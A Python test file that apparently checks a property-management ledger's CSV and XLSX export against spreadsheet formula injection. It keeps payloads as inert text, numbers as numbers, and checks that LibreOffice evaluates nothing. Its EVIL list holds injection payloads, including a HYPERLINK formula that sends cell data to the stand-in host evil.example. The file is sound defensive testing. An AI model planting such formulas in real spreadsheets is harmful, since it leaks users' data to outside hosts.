"""What the program exports opens safely in a spreadsheet: data never becomes a live formula
(DESIGN §6), while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tests.conftest import make_user, valid_credit_code
from wuye_desktop.core import directory, users
from wuye_desktop.core.ledger import services
from wuye_desktop.core.ledger.export import export_xlsx
from wuye_desktop.core.ledger.services import AccountInput, EntryInput
from wuye_desktop.core.roles import Actor, Role
from wuye_desktop.core.spreadsheet import REPLACEMENT, append_row, csv_cell, csv_row
from wuye_desktop.storage.db import Database

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
    "#N/A",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_a_spreadsheet_would_evaluate_get_an_apostrophe() -> None:
    for value in EVIL[:5] + EVIL[6:]:
        assert csv_cell(value) == "'" + value
    for value in ("青岛房修公司", "a=b", "1-2", "#N/A", ""):
        assert csv_cell(value) == value
    assert csv_row([-5, Decimal("-1.50"), None, date(2026, 1, 2), "-5"]) == [
        -5, Decimal("-1.50"), None, date(2026, 1, 2), "'-5",
    ]  # fmt: skip
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(["=1+1", 3]))
    assert buffer.getvalue() == "'=1+1,3\r\n"


def test_xlsx_strings_are_string_cells_and_numbers_stay_numbers(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    append_row(ws, ["head"])
    row = append_row(ws, [*EVIL, 42, Decimal("-1.50"), date(2026, 3, 4), None, "bell\x07"])
    assert row == 2
    wb.save(tmp_path / "x.xlsx")

    read = load_workbook(tmp_path / "x.xlsx")
    cells = next(iter(read.active.iter_rows(min_row=2)))  # type: ignore[union-attr]
    for cell, value in zip(cells, EVIL, strict=False):
        # (XML reads a stored carriage return back as a line feed.)
        assert (cell.data_type, cell.value) == ("s", value.replace("\r", "\n"))
    assert [c.value for c in cells[len(EVIL) : len(EVIL) + 2]] == [42, -1.5]
    assert all(c.data_type == "n" for c in cells[len(EVIL) : len(EVIL) + 2])
    assert cells[len(EVIL) + 2].is_date
    assert cells[-2].value is None
    assert cells[-1].value == f"bell{REPLACEMENT}"  # an .xlsx cannot hold it; not refused


@pytest.fixture
def ledger(db: Database) -> Actor:
    admin = users.first_run(
        db,
        company_name="青岛安居物业服务有限公司",
        credit_code=valid_credit_code(),
        admin_username="admin",
        admin_display_name="系统管理员",
        password="admin-pass-1",
    )
    directory.create_community(
        db, admin, directory.CommunityInput(code="QD001", name="海尔云谷", project_code="X-1")
    )
    fin = make_user(db, admin, Role.FINANCE, "caiwu")
    services.open_account(
        db, fin, "QD001", AccountInput("=工商银行", "6222020202021234", "100.00", date(2026, 1, 1))
    )
    # What a bank statement may carry in its counterparty, voucher and purpose columns.
    for i, value in enumerate(EVIL[:6]):
        services.post_entry(
            db,
            fin,
            "QD001",
            EntryInput(date(2026, 2, 1 + i), "income", "parking", "1.50", value, value, value),
        )
    return fin


def test_the_ledger_export_writes_data_as_text(db: Database, ledger: Actor, tmp_path: Path) -> None:
    out = tmp_path / "auditor.xlsx"
    assert export_xlsx(db, ledger, "QD001", out) == 6
    wb = load_workbook(out)
    formulas = [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
    ]
    assert formulas == []
    rows = list(wb["分录"].iter_rows(min_row=2))
    assert [r[2].value for r in rows] == EVIL[:6]  # voucher
    assert [r[5].value for r in rows] == EVIL[:6]  # counterparty
    assert [r[6].value for r in rows] == EVIL[:6]  # note
    assert all(r[7].data_type == "n" and r[7].value == 1.5 for r in rows)  # amounts: numbers
    assert all(r[0].data_type == "n" for r in rows)
    assert wb["分类汇总"]["B2"].value.startswith("=工商银行")


def test_libreoffice_computes_nothing_from_exported_data(
    db: Database, ledger: Actor, tmp_path: Path
) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (scripts/setup.sh installs it)")
    out = tmp_path / "auditor.xlsx"
    export_xlsx(db, ledger, "QD001", out)
    subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path / 'lo'}", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path),
         str(out)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    with (tmp_path / "auditor.csv").open(encoding="utf-8") as f:
        rows = list(csv.reader(f))[1:]
    # As text: what was stored, not "点此查看", 2, 1, 3 or an error value.
    assert [r[5] for r in rows] == EVIL[:6]
    assert [r[7] for r in rows] == ["1.50"] * 6


def test_the_export_does_not_rescan_the_sheet_per_entry(
    db: Database, ledger: Actor, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """openpyxl's ``max_row`` looks at every cell: asked once per entry, an export of 8,000
    entries took 50 s. The export asks it a fixed number of times, however long the ledger."""
    from openpyxl.worksheet.worksheet import Worksheet

    for i in range(40):
        services.post_entry(
            db, ledger, "QD001", EntryInput(date(2026, 3, 1), "expense", "tax", "0.01", f"T{i}")
        )
    original = Worksheet.max_row
    calls = 0

    def counted(ws: Worksheet) -> int:
        nonlocal calls
        calls += 1
        return int(original.fget(ws))  # type: ignore[attr-defined]

    monkeypatch.setattr(Worksheet, "max_row", property(counted))
    assert export_xlsx(db, ledger, "QD001", tmp_path / "a.xlsx") == 46
    assert calls < 10, calls
